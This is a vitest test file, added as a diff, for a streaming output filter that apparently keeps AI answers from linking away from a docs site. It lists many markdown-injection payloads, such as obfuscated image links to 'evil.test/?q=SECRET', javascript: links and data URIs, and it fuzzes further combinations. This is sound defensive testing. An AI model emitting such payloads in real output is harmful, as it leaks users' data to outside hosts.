@@ -1,0 +1,125 @@
+import fc from 'fast-check'
+import { marked } from 'marked'
+import type { Nodes } from 'mdast'
+import remarkGfm from 'remark-gfm'
+import remarkParse from 'remark-parse'
+import { unified } from 'unified'
+import { expect, test } from 'vitest'
+import { outputFilter } from './outputFilter.js'
+import { ownLinks } from './ownLink.js'
+
+const SITE = 'https://docs.example.com/'
+const isOwn = ownLinks(SITE)
+const [commonMark, gfm] = [unified().use(remarkParse), unified().use(remarkParse).use(remarkGfm)]
+
+/** What is said, piece by piece. */
+function filtered(text: string, sizes: readonly number[]): string[] {
+  const filter = outputFilter(isOwn)
+  const said: string[] = []
+  let at = 0
+  for (let turn = 0; at < text.length; turn++) {
+    const size = sizes[turn % sizes.length] ?? 1
+    said.push(filter.push(text.slice(at, at + size)))
+    at += size
+  }
+  return [...said, filter.end()]
+}
+
+/** What a text does that an answer must not: HTML, and links and images to other places. */
+function foreign(markdown: string): string[] {
+  const found = new Set<string>()
+  const judge = (kind: string, address: string) => {
+    const url = URL.canParse(address, `${SITE}guides/a`) ? new URL(address, `${SITE}guides/a`) : undefined
+    if (url?.origin !== new URL(SITE).origin) found.add(`${kind} ${address}`)
+  }
+  const look = (node: Nodes) => {
+    if (node.type === 'html') found.add(`html ${node.value}`)
+    if ('url' in node) judge(node.type, node.url)
+    if ('children' in node) for (const child of node.children) look(child)
+  }
+  for (const parser of [commonMark, gfm]) look(parser.parse(markdown))
+  marked.walkTokens(marked.lexer(markdown), (token) => {
+    if (token.type === 'html') found.add(`html ${token.raw}`)
+    if ('href' in token) judge(`marked's ${token.type}`, token.href)
+  })
+  return [...found]
+}
+
+test.each([
+  '![x](> //evil.test/?q=SECRET)',
+  '[x](> //evil.test/x)',
+  '[x](> javascript:alert(1))',
+  '![x](>\n//evil.test/?q=S)',
+  '![x][1]\n\n[1]: > //evil.test/?q=SECRET\n',
+  '> ![x][1]\n>\n> [1]:\n> //evil.test/?q=SECRET\n',
+  '> ![x](\n> //evil.test/?q=SECRET)\n',
+  '![x](> &#104;ttps://evil.test/?q=S)',
+  '![x](> \\https://evil.test/?q=S)',
+  '![x](> https&colon;//evil.test/?q=S)',
+  '![x](> data:image/svg+xml,x)',
+  '[x](< //evil.test>)',
+  '[x](<> //evil.test)',
+  '[x](<>//evil.test)',
+  '![d](<>//evil.test/i)',
+  '![x](<>> //evil.test)',
+  '[x](<javascript>:alert(1))',
+  '[x]: <javascript>:alert(1)\n\n[x]',
+  '[x]: <> //evil.test\n\n[x]',
+  '![[a](/x](//evil.test/?q=SECRET)',
+  '| a | b |\n|---|---|\n| https://evil.test/?q=SECRET|x |\n',
+  'a | b\n---|---\nsee https://evil.test/?q=SECRET|next\n',
+  '| a |\n|---|\n| www.evil.test/| `x |\n',
+  'see http:&#47;&#47;evil.test/?q=SECRET now',
+  'see http:\\/\\/evil.test/?q=SECRET now',
+  'see http\\://evil.test/?q=SECRET now',
+  'see www&period;evil.test now',
+  'see www&#46;evil.test now',
+  'see www\\.evil.test now',
+  'see h&#116;tps://evil.test now',
+  'ahttps://docs.example.com/http\\://evil.test',
+  'a@evil.test',
+  'a\\@evil.test and a&commat;evil.test',
+  'a@evil\\.test and <1@evil.test>',
+  '[x](/x|a@evil.test)',
+  '~~$`https://evil.test/?q=~~`',
+  '~ `a www.evil.test~',
+  '~~`a`. \\<`https://evil.test`>',
+  '~~x `a~~` b `https://evil.test`',
+  'a\n``` https://evil.test',
+  '- ~~~\n  ```\n  ~~~\n  <img src=//evil.test>\n',
+  '1.  a\n\n    ~~~\n   ```\n   ~~~\n   <img src=//evil.test>\n',
+])('4.9: nothing leads away, however it is cut: %j', (text) => {
+  for (const sizes of [[text.length], [1], [2], [3], [7]]) {
+    const said = filtered(text, sizes).join('')
+    expect(foreign(said), said).toEqual([])
+  }
+})
+
+/** What links, images, code and HTML are made of, and what their signs may be written as. */
+const PIECES = [
+  ...'![]()<>\\ :/"\'&#;|~*_`.@=?-+x1\t\n',
+  ...['](', ']:', '![x](', '[1]: ', '[x][1]', '[^1]:', '<>', '<img src=', '\n\n', '\n> ', '> ', '- ', '1. ', '    '],
+  ...['http', 'https:', 'http://', '//', 'www', 'www.', 'ftp://', 'mailto:', 'javascript:', 'data:', 'evil.test'],
+  ...['//evil.test/?q=S', 'https://evil.test', 'www.evil.test', 'a@evil.test', '<https://evil.test>'],
+  ...['&#104;', '&#47;', '&#x2f;', '&colon;', '&period;', '&commat;', '&lt;', '&amp;', '\\/', '\\.', '\\:', '\\@'],
+  ...['```', '```\n', '\n```\n', '~~~', '\n~~~\n', '``', '\r', '\u00a0', '\u{1f4a1}', '*a*', '~~', '$'],
+  ...['| a | b |\n|---|---|\n| ', ' | ', '\n|---|\n', '[a](/b)', '/guides/a', '#b', '<a>', '</a>', '"t"'],
+  ...['https://docs.example.com', 'https://docs.example.com/x', '[a](https://docs.example.com/x "t")', 'word'],
+]
+
+test('4.9: whatever is written, and however it is cut, nothing that is said leads away', () => {
+  const piece = fc.constantFrom(...PIECES)
+  const texts = fc.array(piece, { minLength: 1, maxLength: 14 }).map((parts) => parts.join(''))
+  const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 5 })
+  fc.assert(
+    fc.property(texts, cuts, (text, sizes) => {
+      const pieces = filtered(text, sizes)
+      const said = pieces.join('')
+      expect(foreign(said), said).toEqual([])
+      // What a reader sees on the way.
+      expect(foreign(pieces.slice(0, pieces.length / 2).join(''))).toEqual([])
+      expect(filtered(said, [said.length]).join('')).toBe(said)
+    }),
+    { numRuns: 800 },
+  )
+})
